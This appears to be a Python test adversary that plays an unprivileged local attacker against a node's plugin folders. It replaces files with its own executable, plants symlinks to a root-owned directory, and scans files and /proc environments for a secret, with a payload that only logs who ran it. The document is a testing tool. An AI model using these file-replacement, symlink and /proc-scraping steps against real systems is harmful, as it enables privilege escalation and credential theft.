"""An attacker without rights on a node: FOLDER; the secret is its first line. Run not as root, until its input ends.

It makes FOLDER when it can, replaces whatever it finds below by programs of its own, puts links where it can, and looks
for the secret in all files and processes. At the end it prints what it could do.
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import sys
from pathlib import Path
from typing import Set

#: leaves the number of the user who runs it
PAYLOAD = "#!/bin/sh\nid -u >>/tmp/was-run-by\necho 1\n"
#: what links lead to: a folder of root that each node has for itself; its /etc is the whole machine's
LINKED = "/run/sshd"


class Attacker:
    """What it could do is in `done`, what it looked at is counted in `looks`."""

    def __init__(self, folder: Path, secret: str) -> None:
        self.folder, self.secret = folder, secret.encode()
        self.done: Set[str] = set()
        self.looks = self.tries = 0

    def attack(self) -> None:
        """Try everything once."""
        with contextlib.suppress(OSError):
            self.folder.mkdir(mode=0o777)
        for top, folders, files in os.walk(self.folder):
            for name in files:
                self._look(Path(top, name))
                self._replace(Path(top, name))
            for name in ("00000000", "bin", *folders):
                self._link(Path(top, name))
        for place in (Path("/run/cbt-plugins"), Path("/tmp/cbt-plugins-0")):
            self._link(place)
        for process in Path("/proc").glob("[0-9]*"):
            for name in ("cmdline", "environ"):
                self._look(process / name)

    def _look(self, path: Path) -> None:
        self.looks += 1
        with contextlib.suppress(OSError):
            if self.secret in path.read_bytes():
                self.done.add(f"the secret is in {path}")

    def _replace(self, path: Path) -> None:
        self.tries += 1
        with contextlib.suppress(OSError):
            if path.read_text() == PAYLOAD:
                return
        with contextlib.suppress(OSError):
            moved = path.with_name(f".{path.name}")
            moved.write_text(PAYLOAD)
            moved.chmod(0o755)
            moved.replace(path)
            self.done.add(f"replaced {path}")

    def _link(self, path: Path) -> None:
        self.tries += 1
        with contextlib.suppress(OSError):
            path.symlink_to(LINKED)


def main(folder: str, secret: str) -> None:
    attacker = Attacker(Path(folder), secret)
    attacker.attack()
    print("ready", flush=True)
    while not select.select([sys.stdin], [], [], 0.02)[0]:
        attacker.attack()
    print(json.dumps({"done": sorted(attacker.done), "looks": attacker.looks, "tries": attacker.tries}))


if __name__ == "__main__":
    # the secret comes over standard input: an argument would be found
    main(sys.argv[1], sys.stdin.readline().strip())
